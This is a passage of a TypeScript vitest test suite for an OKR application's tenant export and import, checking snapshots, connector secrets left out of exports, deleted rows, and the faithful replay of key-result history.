import { sql } from 'kysely';
import pg from 'pg';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { seedDemo } from '../src/cli/seed.js';
import {
  csvColumns,
  EXPORT_FORMAT,
  exportCsv,
  exportJson,
  importRows,
  parseCsv,
  TransferError,
} from '../src/cli/transfer.js';
import type { Doc } from '../src/core/resource.js';
import { modules } from '../src/modules/index.js';
import { statusSweepJob } from '../src/modules/okr/sweep.js';
import { openStore } from '../src/store/database.js';
import { NO_CONDITIONS } from '../src/store/engine.js';
import { migrate } from '../src/store/schema.js';
import { byName, freshStore, PG_URL, storeKinds, type TestApp, testApp, USER_A, USER_B } from './helpers.js';

const NOW = Date.parse('2026-11-20T09:00:00.000Z');
const DAY = 86_400_000;

/** A write through the API, answering the document (the test fails on an error). */
type Call = (method: string, path: string, body?: Doc) => Promise<Doc>;

/** Two check-ins a second apart: 30, then 60 with a confidence. */
async function checkIns(call: Call, tick: () => void, id: string): Promise<void> {
  tick();
  await call('POST', `key-results/${id}/check-ins`, { value: 30 });
  tick();
  await call('POST', `key-results/${id}/check-ins`, { value: 60, confidence: 7 });
}

/**
 * An export as two tenants' exports of the same rows compare: each id, wherever it appears (a
 * reference, a query's text), as its row's place in the file (`KeyResult 2`), and without what
 * README says an import writes anew: who wrote it, its writes' count and time (`updated_at`,
 * `version`), a webhook's URL.
 */
function comparable(doc: { resources: Record<string, Doc[]> }): Record<string, Doc[]> {
  let text = JSON.stringify(doc.resources);
  for (const [name, rows] of Object.entries(doc.resources)) {
    rows.forEach((row, i) => {
      text = text.replaceAll(row.id as string, `${name} ${i + 1}`);
    });
  }
  const resources = JSON.parse(text) as Record<string, Doc[]>;
  for (const rows of Object.values(resources)) {
    for (const row of rows) {
      for (const name of ['tenant_id', 'created_by', 'updated_by', 'updated_at', 'version', 'webhook_url'])
        delete row[name];
      for (const entry of (row.history ?? []) as Doc[]) delete entry.by;
    }
  }
  return resources;
}

/** Whether a row of an export names (by reference or in its text) a row created after it. */
function namesNewer(doc: { resources: Record<string, Doc[]> }): boolean {
  const rows = Object.values(doc.resources).flat();
  return rows.some((row) => {
    const { id, ...rest } = row;
    const text = JSON.stringify(rest);
    return rows.some(
      (other) =>
        other.id !== id &&
        text.includes(other.id as string) &&
        (other.created_at as string) > (row.created_at as string),
    );
  });
}

describe.each(storeKinds)('edm export and import (%s)', (kind) => {
  let t: TestApp;
  /**
   * Deletes an objective as an earlier build did, which took no notice of the objectives aligned
   * to it (the API now answers 409): stores it wrote may hold such rows, and their exports import.
   */
  const deleteAsEarlierBuild = (tenant: string, id: string) =>
    t.app.engine.transaction((db) =>
      t.app.engine.remove(
        db,
        byName('Objective'),
        { sub: USER_A, tenantId: tenant, appId: null, scopes: null },
        id,
        NO_CONDITIONS,
        false,
        false,
      ),
    );
  // Imports count as now the time the source was seeded at: each status is then as of that time.
  const opts = (tenant: string) => ({
    store: t.store,
    modules,
    tenant,
    sub: USER_A,
    secretKey: t.config.secretKey,
    now: NOW,
  });
  const list = async (tenant: string, path: string) => {
    const token = await t.token({ tenant });
    const res = await t.call('GET', `/api/v1/okr/${path}?limit=200&sort=created_at`, { token });
    expect(res.status).toBe(200);
    return res.body.data as Doc[];
  };
  const exported = async (tenant: string, o: { includeDeleted?: boolean } = {}) => {
    let text = '';
    const counts = await exportJson({ ...opts(tenant), ...o }, (chunk) => {
      text += chunk;
    });
    return { counts, doc: JSON.parse(text) as { format: string; tenant_id: string; resources: Record<string, Doc[]> } };
  };

  /** Writes through the API as a person of `tenant`, answering the document (the test fails on an error). */
  const caller = async (tenant: string): Promise<Call> => {
    const token = await t.token({ tenant });
    return async (method, path, body) => {
      const res = await t.call(method, `/api/v1/okr/${path}`, { token, body });
      expect(res.status, `${method} ${path}: ${res.raw}`).toBeLessThan(300);
      return res.body as Doc;
    };
  };

  beforeEach(async () => {
    t = await testApp(kind);
    await seedDemo({ ...opts('source'), sub: USER_B, now: NOW });
  });
  afterEach(async () => {
    await t.close();
  });

  it('exports every row as the API shows it, and an import rebuilds the tenant elsewhere with its history', async () => {
    const { counts, doc } = await exported('source');
    expect(counts).toEqual({ Cycle: 1, Objective: 4, KeyResult: 9, Connector: 0 });
    expect(doc.format).toBe(EXPORT_FORMAT);
    expect(doc.tenant_id).toBe('source');
    expect(doc.resources.KeyResult.map((k) => k.id).sort()).toEqual(
      (await list('source', 'key-results')).map((k) => k.id).sort(),
    );

    expect(await importRows(opts('copy'), { json: doc })).toEqual({ Cycle: 1, Objective: 4, KeyResult: 9 });
    const [before, after] = [await list('source', 'key-results'), await list('copy', 'key-results')];
    const same = (k: Doc) => ({
      title: k.title,
      current: k.current,
      progress_pct: k.progress_pct,
      status: k.status,
      confidence: k.confidence,
      created_at: k.created_at,
      history: (k.history as Doc[]).map((h) => [h.at, h.value, h.note, h.confidence]),
    });
    expect(after.map(same)).toEqual(before.map(same));
    // New ids, and references rewritten to them: the copy's objectives are its own.
    const copyObjectives = await list('copy', 'objectives');
    expect(after.every((k) => !before.some((b) => b.id === k.id))).toBe(true);
    expect(after.every((k) => copyObjectives.some((o) => o.id === k.objective_id))).toBe(true);
    const revenue = copyObjectives.find((o) => o.title === 'Grow recurring revenue') as Doc;
    expect(copyObjectives.find((o) => o.title === 'Win the enterprise segment')?.parent_objective_id).toBe(revenue.id);
    expect(copyObjectives.map((o) => o.progress_pct)).toEqual(
      (await list('source', 'objectives')).map((o) => o.progress_pct),
    );
    // Written by the importer.
    expect(after.every((k) => k.created_by === USER_A)).toBe(true);
  });

  it.runIf(kind === 'postgres')(
    "keeps its snapshot while a slow reader holds it up: the session's idle-in-transaction limit is off for it",
    async () => {
      const show = async (db: typeof t.store.db) =>
        (
          await sql<{ idle_in_transaction_session_timeout: string }>`SHOW idle_in_transaction_session_timeout`.execute(
            db,
          )
        ).rows[0]?.idle_in_transaction_session_timeout;
      expect(await t.store.snapshot((s) => show(s.db))).toBe('0');
      expect(await show(t.store.db)).not.toBe('0'); // other sessions keep theirs (a stalled one loses its locks)
    },
  );

  it('exports one snapshot: rows written while it runs are in none of its resources, so the file imports', async () => {
    const token = await t.token({ tenant: 'source' });
    let text = '';
    let wrote = false;
    const counts = await exportJson(opts('source'), async (chunk) => {
      text += chunk;
      // Between the objectives and the key results: a new objective, and a key result under it.
      if (chunk.includes('"KeyResult":[') && !wrote) {
        wrote = true;
        const objective = await t.call('POST', '/api/v1/okr/objectives', { token, body: { title: 'meanwhile' } });
        const kr = await t.call('POST', '/api/v1/okr/key-results', {
          token,
          body: { objective_id: objective.body.id, title: 'written meanwhile', target: 1 },
        });
        expect([objective.status, kr.status]).toEqual([201, 201]);
      }
    });
    expect(wrote).toBe(true);
    expect(counts).toEqual({ Cycle: 1, Objective: 4, KeyResult: 9, Connector: 0 });
    const doc = JSON.parse(text) as { resources: Record<string, Doc[]> };
    expect(await importRows(opts('snapshot-copy'), { json: doc })).toEqual({ Cycle: 1, Objective: 4, KeyResult: 9 });
    expect((await list('source', 'key-results')).length).toBe(10); // the write itself landed
  });

  it("counts the progress bar's totals in its snapshot: a row written as it starts is in neither", async () => {
    const token = await t.token({ tenant: 'source' });
    // A write that commits once the snapshot is taken, before the export counts its rows.
    const store = {
      ...t.store,
      snapshot: <T>(fn: (s: typeof t.store) => Promise<T>) =>
        t.store.snapshot(async (held) => {
          const kr = await t.call('POST', '/api/v1/okr/objectives', { token, body: { title: 'as it starts' } });
          expect(kr.status).toBe(201);
          return fn(held);
        }),
    };
    const totals = new Map<string, number>();
    const counts = await exportJson(
      { ...opts('source'), store, progress: (label: string, _done: number, total: number) => totals.set(label, total) },
      async () => {},
    );
    // On SQLite the snapshot is taken before the write; PostgreSQL's begins at its first read.
    expect(counts).toMatchObject({ Objective: kind === 'sqlite' ? 4 : 5, KeyResult: 9 });
    expect([...totals.values()].reduce((a, b) => a + b, 0)).toBe(Object.values(counts).reduce((a, b) => a + b, 0));
    expect((await list('source', 'objectives')).length).toBe(5); // the write itself landed
  });

  it('brings connectors without their secrets, and the key results they feed with their history', async () => {
    const token = await t.token({ tenant: 'source' });
    const [objective] = await list('source', 'objectives');
    const hook = await t.call('POST', '/api/v1/okr/connectors', {
      token,
      body: { name: 'Desk', kind: 'webhook' },
    });
    const warehouse = await t.call('POST', '/api/v1/okr/connectors', {
      token,
      body: { name: 'DW', kind: 'postgres', config: { query: 'select 1' }, secret: 'postgres://u:pw@db.example/x' },
    });
    const fedKr = await t.call('POST', '/api/v1/okr/key-results', {
      token,
      body: {
        objective_id: objective.id,
        title: 'Open tickets',
        baseline: 120,
        target: 50,
        data_source: 'connector',
        connector_id: hook.body.id,
      },
    });
    expect([hook.status, warehouse.status, fedKr.status]).toEqual([201, 201, 201]);
    expect(
      (await t.app.inject({ method: 'POST', url: hook.body.webhook_url as string, payload: { value: 87 } })).statusCode,
    ).toBe(200);

    const { doc } = await exported('source');
    expect(JSON.stringify(doc)).not.toContain('pw@db.example');
    expect(await importRows(opts('copy'), { json: doc })).toMatchObject({ Connector: 2, KeyResult: 10 });
    const connectors = await list('copy', 'connectors');
    const copyHook = connectors.find((c) => c.name === 'Desk') as Doc;
    expect(copyHook.webhook_url).toMatch(new RegExp(`/connectors/${copyHook.id}/webhook\\?tenant_id=copy&`));
    const copied = (await list('copy', 'key-results')).find((k) => k.title === 'Open tickets') as Doc;
    // Its log (the create's 120, the push of 87) replayed: it holds the last value until the next push.
    expect(copied).toMatchObject({ connector_id: copyHook.id, data_source: 'connector', current: 87 });
    expect((copied.history as Doc[]).map((h) => h.value)).toEqual([120, 87]);
    expect(
      (await t.app.inject({ method: 'POST', url: copyHook.webhook_url as string, payload: { value: 80 } })).statusCode,
    ).toBe(200);
    expect((await list('copy', 'key-results')).find((k) => k.title === 'Open tickets')?.current).toBe(80);
  });

  // What a connector read is in the key result's log alone (no sync reads it again): an import
  // replays the whole log, the person's check-ins before the connector and its readings after.
  it('keeps the history of a key result a connector fed after check-ins of its own, and of a query reading it', async () => {
    const call = await caller('fed');
    const tick = () => t.clock.advance(1000);
    const objective = await call('POST', 'objectives', { title: 'Fed' });
    tick();
    const kr = await call('POST', 'key-results', { objective_id: objective.id, title: 'Tickets', target: 100 });
    await call('POST', 'key-results', {
      objective_id: objective.id,
      title: 'Twice the tickets',
      target: 200,
      data_source: 'query',
      query: `kr("${kr.id}") * 2`,
    });
    for (const [value, note, confidence] of [
      [20, 'week 1 manual count', 6],
      [35, 'week 2', 7],
    ] as const) {
      tick();
      await call('POST', `key-results/${kr.id}/check-ins`, { value, note, confidence });
    }
    tick();
    const connector = await call('POST', 'connectors', { name: 'Desk', kind: 'webhook' });
    tick();
    await call('PATCH', `key-results/${kr.id}`, { data_source: 'connector', connector_id: connector.id });
    for (const value of [50, 60]) {
      tick();
      const push = await t.app.inject({ method: 'POST', url: connector.webhook_url as string, payload: { value } });
      expect(push.statusCode, push.body).toBe(200);
    }
    const { doc } = await exported('fed');
    await importRows(opts('fed-copy'), { json: doc });
    const shown = async (tenant: string) =>
      (await list(tenant, 'key-results'))
        .map((k) => ({
          title: k.title,
          current: k.current,
          progress_pct: k.progress_pct,
          data_source: k.data_source,
          history: (k.history as Doc[]).map((h) => [h.at, h.value, h.note]),
        }))
        .sort((a, b) => String(a.title).localeCompare(String(b.title)));
    const source = await shown('fed');
    expect(source[0]).toMatchObject({ title: 'Tickets', current: 60, data_source: 'connector' });
    expect(source[0]?.history.map((h) => h[1])).toEqual([0, 20, 35, 0, 50, 60]);
    expect(source[1]?.history.map((h) => h[1])).toEqual([0, 40, 70, 0, 100, 120]);
    expect(await shown('fed-copy')).toEqual(source);
    const [copied] = (await list('fed-copy', 'key-results')).filter((k) => k.title === 'Tickets');
    const checkIns = await t.call('GET', `/api/v1/okr/key-results/${copied?.id}/check-ins?limit=50`, {
      token: await t.token({ tenant: 'fed-copy' }),
    });
    expect((checkIns.body.data as Doc[]).map((c) => [c.value, c.note, c.confidence]).reverse()).toEqual([
      [0, null, null],
      [20, 'week 1 manual count', 6],
      [35, 'week 2', 7],
      [0, null, null],
      [50, null, null],
      [60, null, null],
    ]);
    // The next push feeds it as the source's would.
    const [copyHook] = await list('fed-copy', 'connectors');
    const push = await t.app.inject({ method: 'POST', url: copyHook?.webhook_url as string, payload: { value: 70 } });
    expect(push.statusCode).toBe(200);
    expect((await list('fed-copy', 'key-results')).find((k) => k.title === 'Twice the tickets')?.current).toBe(140);
  });

  it('leaves deleted rows out unless asked; an import brings them as deleted rows, which live rows may name', async () => {
    const token = await t.token({ tenant: 'source' });
    const call = (method: string, path: string, body?: Doc) => t.call(method, `/api/v1/okr/${path}`, { token, body });
    const [objective] = await list('source', 'objectives');
    // A query reading a key result deleted since (it keeps reading its last value), and an
    // objective aligned to an objective deleted since: both allowed, both to be carried over.
    const read = (await call('POST', 'key-results', { objective_id: objective.id, title: 'Read', target: 10 })).body;
    t.clock.advance(60_000);
    await call('POST', `key-results/${read.id}/check-ins`, { value: 4, note: 'last reading' });
    const query = await call('POST', 'key-results', {
      objective_id: objective.id,
      title: 'Twice that',
      target: 20,
      data_source: 'query',
      query: `kr("${read.id}") * 2`,
    });
    expect([query.status, query.body.current]).toEqual([201, 8]);
    const parent = (await call('POST', 'objectives', { title: 'Retired', cycle_id: objective.cycle_id })).body;
    await call('POST', 'objectives', {
      title: 'Aligned',
      cycle_id: objective.cycle_id,
      parent_objective_id: parent.id,
    });
    t.clock.advance(60_000);
    expect((await call('DELETE', `key-results/${read.id}`)).status).toBe(200);
    expect((await call('DELETE', `objectives/${parent.id}`)).status).toBe(409);
    await deleteAsEarlierBuild('source', parent.id as string);
    // A cascade: an objective deleted with its key results, at one time.
    const gone = (await call('POST', 'objectives', { title: 'Gone', cycle_id: objective.cycle_id })).body;
    await call('POST', 'key-results', { objective_id: gone.id, title: 'Gone too', target: 1 });
    expect((await call('DELETE', `objectives/${gone.id}?cascade=true`)).status).toBe(200);

    expect((await exported('source')).counts.KeyResult).toBe(10);
    const all = await exported('source', { includeDeleted: true });
    expect(all.counts).toMatchObject({ Objective: 7, KeyResult: 12 });
    // A CSV of one resource likewise: the deleted rows only when asked, and then each of them.
    const csv = async (includeDeleted: boolean) => {
      let text = '';
      const n = await exportCsv({ ...opts('source'), resource: 'KeyResult', includeDeleted }, (chunk) => {
        text += chunk;
      });
      const [header, ...rows] = parseCsv(text);
      return { n, ids: rows.map((r) => r[header.indexOf('id')]) };
    };
    const live = await csv(false);
    const every = await csv(true);
    expect([live.n, every.n]).toEqual([10, 12]);
    expect(live.ids).not.toContain(read.id);
    expect(every.ids).toContain(read.id);
    expect(await importRows(opts('copy'), { json: all.doc })).toMatchObject({ Objective: 7, KeyResult: 12 });
    const shown = async (tenant: string, path: string) => {
      const rows = (
        await t.call('GET', `/api/v1/okr/${path}?limit=200&include_deleted=true`, {
          token: await t.token({ tenant }),
        })
      ).body.data as Doc[];
      const title = new Map(rows.map((r) => [r.id, r.title]));
      return rows
        .map((r) => [r.title, r.is_deleted, r.deleted_at, r.current ?? null, title.get(r.parent_objective_id) ?? null])
        .sort();
    };
    for (const path of ['objectives', 'key-results'])
      expect(await shown('copy', path)).toEqual(await shown('source', path));
    // Without the deleted rows, what names them cannot be made again: the error says which.
    await expect(importRows(opts('other'), { json: (await exported('source')).doc })).rejects.toThrow(TransferError);
  });

  it('refuses, into its own tenant too, a query of a key result deleted since and not in the file', async () => {
    const call = await caller('gone');
    const objective = await call('POST', 'objectives', { title: 'Computed' });
    const read = await call('POST', 'key-results', { objective_id: objective.id, title: 'Read', target: 10 });
    await call('POST', `key-results/${read.id}/check-ins`, { value: 3 });
    await call('POST', 'key-results', {
      objective_id: objective.id,
      title: 'Query',
      target: 10,
      data_source: 'query',
      query: `kr("${read.id}")`,
    });
    // One switched to a query later, with entries of its log before: given its query last.
    const switched = await call('POST', 'key-results', { objective_id: objective.id, title: 'Switched', target: 10 });
    await call('POST', `key-results/${switched.id}/check-ins`, { value: 1 });
    await call('PATCH', `key-results/${switched.id}`, { data_source: 'query', query: `kr("${read.id}") + 1` });
    await call('DELETE', `key-results/${read.id}`);
    const { doc } = await exported('gone');
    for (const tenant of ['gone', 'elsewhere']) {
      await expect(importRows(opts(tenant), { json: doc }), tenant).rejects.toThrow(
        `kr("${read.id}") must name a live KeyResult of this tenant; nothing was imported`,
      );
      const switchedOnly = structuredClone(doc);
      switchedOnly.resources.KeyResult = switchedOnly.resources.KeyResult.filter((k) => k.title === 'Switched');
      await expect(importRows(opts(tenant), { json: switchedOnly }), tenant).rejects.toThrow(
        `query names ${read.id}, which must be a live KeyResult of this tenant; nothing was imported`,
      );
    }
    expect((await list('gone', 'key-results')).map((k) => k.title).sort()).toEqual(['Query', 'Switched']);
  });

  it('keeps a back-dated check-in where it was, and the row its create', async () => {
    const token = await t.token({ tenant: 'source' });
    const [objective] = await list('source', 'objectives');
    const created = await t.call('POST', '/api/v1/okr/key-results', {
      token,
      body: { objective_id: objective.id, title: 'Back-dated', target: 10 },
    });
    t.clock.advance(60_000);
    const url = `/api/v1/okr/key-results/${created.body.id}/check-ins`;
    const early = new Date(Date.parse(created.body.created_at as string) - 10 * 86_400_000).toISOString();
    await t.call('POST', url, { token, body: { value: 3, note: 'old', confidence: 3, at: early } });
    await t.call('POST', url, { token, body: { value: 6, note: 'now', confidence: 8 } });
    const { doc } = await exported('source');
    await importRows(opts('copy'), { json: doc });
    const pick = async (tenant: string) => {
      const kr = (await list(tenant, 'key-results')).find((k) => k.title === 'Back-dated') as Doc;
      return {
        created_at: kr.created_at,
        current: kr.current,
        confidence: kr.confidence,
        last_update_at: kr.last_update_at,
        history: (kr.history as Doc[]).map((h) => [h.at, h.value, h.note, h.confidence]),
      };
    };
    const source = await pick('source');
    expect(source.history[0]).toEqual([early, 3, 'old', 3]);
    expect(await pick('copy')).toEqual(source);
  });

  // Rows that name rows created after them: the source re-pointed them later (a PATCH), which an
  // export does not show. Each scenario writes a tenant through the API, a second apart, and its
  // import must export as it does, field by field: created_at, values, history, roll-ups.
  const later: {
    name: string;
    includeDeleted?: boolean;
    write: (call: Call, tick: () => void, tenant: string) => Promise<void>;
  }[] = [
    {
      name: 'a cycle created after its objective',
      async write(call, tick) {
        const objective = await call('POST', 'objectives', { title: 'Draft objective' });
        tick();
        const kr = await call('POST', 'key-results', { objective_id: objective.id, title: 'Revenue', target: 100 });
        await checkIns(call, tick, kr.id as string);
        tick();
        const cycle = await call('POST', 'cycles', { name: 'Q', start_date: '2026-11-01', end_date: '2027-01-31' });
        tick();
        await call('PATCH', `objectives/${objective.id}`, { cycle_id: cycle.id });
      },
    },
    {
      name: 'a key result moved to a newer objective',
      async write(call, tick) {
        const first = await call('POST', 'objectives', { title: 'First home' });
        tick();
        const kr = await call('POST', 'key-results', { objective_id: first.id, title: 'Revenue', target: 100 });
        await checkIns(call, tick, kr.id as string);
        tick();
        const second = await call('POST', 'objectives', { title: 'Second home' });
        tick();
        await call('PATCH', `key-results/${kr.id}`, { objective_id: second.id });
      },
    },
    {
      name: 'an objective aligned under a newer parent',
      async write(call, tick) {
        const objective = await call('POST', 'objectives', { title: 'Aligned later' });
        tick();
        const kr = await call('POST', 'key-results', { objective_id: objective.id, title: 'Revenue', target: 100 });
        await checkIns(call, tick, kr.id as string);
        tick();
        const parent = await call('POST', 'objectives', { title: 'Parent' });
        tick();
        await call('PATCH', `objectives/${objective.id}`, { parent_objective_id: parent.id });
      },
    },
    {
      name: 'a key result attached to a connector created later',
      async write(call, tick) {
        const objective = await call('POST', 'objectives', { title: 'Fed' });
        tick();
        const kr = await call('POST', 'key-results', { objective_id: objective.id, title: 'Tickets', target: 100 });
        tick();
        const manual = await call('POST', 'key-results', { objective_id: objective.id, title: 'Manual', target: 100 });
        await checkIns(call, tick, manual.id as string);
        tick();
        // Fed, it starts at its baseline until the connector's next sync (README): it has no check-ins.
        const connector = await call('POST', 'connectors', { name: 'Desk', kind: 'webhook' });
        tick();
        await call('PATCH', `key-results/${kr.id}`, { data_source: 'connector', connector_id: connector.id });
      },
    },
    {
      name: 'a query reading a key result created later',
      async write(call, tick) {
        const objective = await call('POST', 'objectives', { title: 'Computed' });
        tick();
        // Reading nothing at first (0), what the key result it reads later starts at: the import,
        // where it reads that one from its create on, has the same history.
        const query = await call('POST', 'key-results', {
          objective_id: objective.id,
          title: 'Twice that',
          target: 200,
          data_source: 'query',
          query: '0',
        });
        tick();
        const read = await call('POST', 'key-results', { objective_id: objective.id, title: 'Read', target: 100 });
        tick();
        await call('PATCH', `key-results/${query.id}`, { query: `kr("${read.id}") * 2` });
        await checkIns(call, tick, read.id as string);
      },
    },
    {
      name: 'a query reading a key result later moved to a newer objective (its other reads checked in meanwhile)',
      async write(call, tick) {
        const first = await call('POST', 'objectives', { title: 'First home' });
        tick();
        const krs: Doc[] = [];
        for (const title of ['Moved', 'Stays']) {
          krs.push(await call('POST', 'key-results', { objective_id: first.id, title, target: 100 }));
          tick();
        }
        const [moved, stays] = krs;
        await call('POST', 'key-results', {
          objective_id: first.id,
          title: 'Both',
          target: 200,
          data_source: 'query',
          query: `kr("${moved.id}") + kr("${stays.id}")`,
        });
        for (const [kr, value] of [
          [stays, 10],
          [moved, 20],
          [stays, 30],
        ] as const) {
          tick();
          await call('POST', `key-results/${kr.id}/check-ins`, { value });
        }
        tick();
        const second = await call('POST', 'objectives', { title: 'Second home' });
        tick();
        await call('PATCH', `key-results/${moved.id}`, { objective_id: second.id });
        tick();
        await call('POST', `key-results/${stays.id}/check-ins`, { value: 40 });
      },
    },
    {
      // Its check-ins from before are in its log with the query's entries, replayed as they were:
      // notes, confidences and values as in the source.
      name: 'a key result that took check-ins before a query of a newer key result replaced them',
      async write(call, tick) {
        const objective = await call('POST', 'objectives', { title: 'Home' });
        tick();
        const was = await call('POST', 'key-results', { objective_id: objective.id, title: 'Was manual', target: 100 });
        tick();
        await call('POST', `key-results/${was.id}/check-ins`, { value: 20, note: 'manual one', confidence: 8 });
        tick();
        await call('POST', `key-results/${was.id}/check-ins`, { value: 30, note: 'manual two', confidence: 9 });
        tick();
        const source = await call('POST', 'key-results', { objective_id: objective.id, title: 'Source', target: 100 });
        tick();
        await call('POST', `key-results/${source.id}/check-ins`, { value: 15 });
        tick();
        // 15 × 2 is what it holds: the switch records no entry, and its confidence stays 9.
        await call('PATCH', `key-results/${was.id}`, { data_source: 'query', query: `kr("${source.id}") * 2` });
        tick();
        await call('POST', `key-results/${source.id}/check-ins`, { value: 40 });
        tick();
        await call('POST', `key-results/${source.id}/check-ins`, { value: 45 });
      },
    },
    {
      name: 'an objective aligned under a parent deleted since, then given a newer cycle',
      includeDeleted: true,
      async write(call, tick, tenant) {
        const parent = await call('POST', 'objectives', { title: 'Parent' });
        tick();
        const child = await call('POST', 'objectives', { title: 'Child', parent_objective_id: parent.id });
        tick();
        await deleteAsEarlierBuild(tenant, parent.id as string);
        tick();
        const cycle = await call('POST', 'cycles', { name: 'Q', start_date: '2026-11-01', end_date: '2027-01-31' });
        tick();
        await call('PATCH', `objectives/${child.id}`, { cycle_id: cycle.id });
      },
    },
  ];
  it.each(later)(
    'imports $name with its created_at, values, history and roll-ups',
    async ({ name, write, includeDeleted }) => {
      const tenant = `later-${later.findIndex((s) => s.name === name)}`;
      const call = await caller(tenant);
      await write(call, () => t.clock.advance(1000), tenant);
      const source = (await exported(tenant, { includeDeleted })).doc;
      expect(namesNewer(source)).toBe(true);
      await importRows(opts(`${tenant}-copy`), { json: source });
      const copy = (await exported(`${tenant}-copy`, { includeDeleted })).doc;
      expect(comparable(copy)).toEqual(comparable(source));
    },
  );

  // Key results a query or a connector feeds now: what their logs hold depends on what the file
  // does not show (the queries they had, when they were deleted and restored, what their reads
  // held then), so the import replays their logs, the platform's entries as the platform's.
  const fed: {
    name: string;
    includeDeleted?: boolean;
    write: (call: Call, tick: () => void) => Promise<void>;
  }[] = [
    {
      name: 'a query deleted, then restored after what it reads moved',
      async write(call, tick) {
        const objective = await call('POST', 'objectives', { title: 'Computed' });
        tick();
        const read = await call('POST', 'key-results', { objective_id: objective.id, title: 'Read', target: 100 });
        tick();
        const query = await call('POST', 'key-results', {
          objective_id: objective.id,
          title: 'Query',
          target: 100,
          data_source: 'query',
          query: `kr("${read.id}")`,
        });
        tick();
        await call('DELETE', `key-results/${query.id}`);
        tick();
        await call('POST', `key-results/${read.id}/check-ins`, { value: 5 });
        tick();
        await call('POST', `key-results/${read.id}/check-ins`, { value: 9 });
        tick();
        // It held 0 while deleted, and catches up to 9 now: one entry, at this time.
        await call('POST', `key-results/${query.id}/restore`);
      },
    },
    {
      name: 'a query edited to read another key result, its value unchanged (no entry)',
      async write(call, tick) {
        const objective = await call('POST', 'objectives', { title: 'Computed' });
        tick();
        const a = await call('POST', 'key-results', { objective_id: objective.id, title: 'A', target: 100 });
        const b = await call('POST', 'key-results', { objective_id: objective.id, title: 'B', target: 100 });
        tick();
        const query = await call('POST', 'key-results', {
          objective_id: objective.id,
          title: 'Query',
          target: 100,
          data_source: 'query',
          query: `kr("${a.id}")`,
        });
        tick();
        await call('POST', `key-results/${a.id}/check-ins`, { value: 5 });
        tick();
        await call('PATCH', `key-results/${query.id}`, { query: `kr("${b.id}") + 5` });
        tick();
        await call('POST', `key-results/${b.id}/check-ins`, { value: 10 });
      },
    },
    {
      // Attached after its last entry, its query as edited would read B at 0 and write an entry
      // the source never had: its value moved no more since that entry, so it is attached last.
      name: 'a query edited after its last entry, to read a key result checked in before the edit',
      async write(call, tick) {
        const objective = await call('POST', 'objectives', { title: 'Computed' });
        tick();
        const a = await call('POST', 'key-results', { objective_id: objective.id, title: 'A', target: 100 });
        const b = await call('POST', 'key-results', { objective_id: objective.id, title: 'B', target: 100 });
        const query = await call('POST', 'key-results', {
          objective_id: objective.id,
          title: 'Query',
          target: 100,
          data_source: 'query',
          query: `kr("${a.id}")`,
        });
        tick();
        await call('POST', `key-results/${a.id}/check-ins`, { value: 5 });
        tick();
        await call('POST', `key-results/${b.id}/check-ins`, { value: 5 });
        tick();
        await call('PATCH', `key-results/${query.id}`, { query: `kr("${b.id}")` });
      },
    },
    {
      name: 'a key result switched to a query of key results, one of them deleted since',
      includeDeleted: true,
      async write(call, tick) {
        const objective = await call('POST', 'objectives', { title: 'Computed' });
        tick();
        const x = await call('POST', 'key-results', { objective_id: objective.id, title: 'X', target: 100 });
        const y = await call('POST', 'key-results', { objective_id: objective.id, title: 'Y', target: 100 });
        const m = await call('POST', 'key-results', { objective_id: objective.id, title: 'Was manual', target: 100 });
        tick();
        // Its confidence is this check-in's still after the switch's own entry (1 → 3), which
        // the import replays as a check-in without one.
        await call('POST', `key-results/${m.id}/check-ins`, { value: 1, confidence: 4 });
        tick();
        await call('POST', `key-results/${x.id}/check-ins`, { value: 3 });
        tick();
        await call('PATCH', `key-results/${m.id}`, { data_source: 'query', query: `kr("${x.id}") + kr("${y.id}")` });
        tick();
        // It reads X's last value on (3).
        await call('DELETE', `key-results/${x.id}`);
        tick();
        await call('POST', `key-results/${y.id}/check-ins`, { value: 4 });
      },
    },
    {
      // Replayed as a check-in (the file does not say it was a PATCH), its entry would set the
      // confidence to none: the key result's own is set back.
      name: 'a key result whose newest entry came from a PATCH of current, after a check-in with a confidence',
      async write(call, tick) {
        const objective = await call('POST', 'objectives', { title: 'Home' });
        tick();
        const kr = await call('POST', 'key-results', { objective_id: objective.id, title: 'Patched', target: 100 });
        tick();
        await call('POST', `key-results/${kr.id}/check-ins`, { value: 40, confidence: 8 });
        tick();
        await call('PATCH', `key-results/${kr.id}`, { current: 45 });
      },
    },
    {
      // Created in one millisecond, the source's order is the file's: the one a query of the
      // other reads later is not created first (its ids, and lists by created_at, would swap).
      name: 'a key result switched to a query of one created in the same millisecond',
      async write(call, tick) {
        const objective = await call('POST', 'objectives', { title: 'Home' });
        tick();
        const m = await call('POST', 'key-results', { objective_id: objective.id, title: 'M', target: 100 });
        const read = await call('POST', 'key-results', { objective_id: objective.id, title: 'Read', target: 100 });
        // In that millisecond too: an event of its own at that time leaves the two in their order.
        await call('POST', `key-results/${read.id}/check-ins`, { value: 1 });
        tick();
        await call('POST', `key-results/${m.id}/check-ins`, { value: 2 });
        tick();
        await call('PATCH', `key-results/${m.id}`, { data_source: 'query', query: `kr("${read.id}") + 1` });
        tick();
        await call('POST', `key-results/${read.id}/check-ins`, { value: 6 });
      },
    },
    {
      name: 'a key result switched to the second of two connectors created in the same millisecond',
      async write(call, tick) {
        const objective = await call('POST', 'objectives', { title: 'Fed' });
        tick();
        const kr = await call('POST', 'key-results', { objective_id: objective.id, title: 'Tickets', target: 100 });
        tick();
        await call('POST', 'connectors', { name: 'First', kind: 'webhook' });
        const second = await call('POST', 'connectors', { name: 'Second', kind: 'webhook' });
        tick();
        await call('PATCH', `key-results/${kr.id}`, { data_source: 'connector', connector_id: second.id });
        tick();
        const push = await t.app.inject({ method: 'POST', url: second.webhook_url as string, payload: { value: 30 } });
        expect(push.statusCode, push.body).toBe(200);
      },
    },
    {
      // Two check-ins in one millisecond, on two key results: the file does not say which came
      // first, but the query's log does.
      name: 'a query of two key results checked in within one millisecond',
      async write(call, tick) {
        const objective = await call('POST', 'objectives', { title: 'Computed' });
        tick();
        const a = await call('POST', 'key-results', { objective_id: objective.id, title: 'A', target: 100 });
        const b = await call('POST', 'key-results', { objective_id: objective.id, title: 'B', target: 100 });
        tick();
        await call('POST', 'key-results', {
          objective_id: objective.id,
          title: 'Query',
          target: 100,
          data_source: 'query',
          query: `kr("${a.id}") + 2 * kr("${b.id}")`,
        });
        tick();
        await call('POST', `key-results/${b.id}/check-ins`, { value: 5 });
        await call('POST', `key-results/${a.id}/check-ins`, { value: 7 });
      },
    },
    {
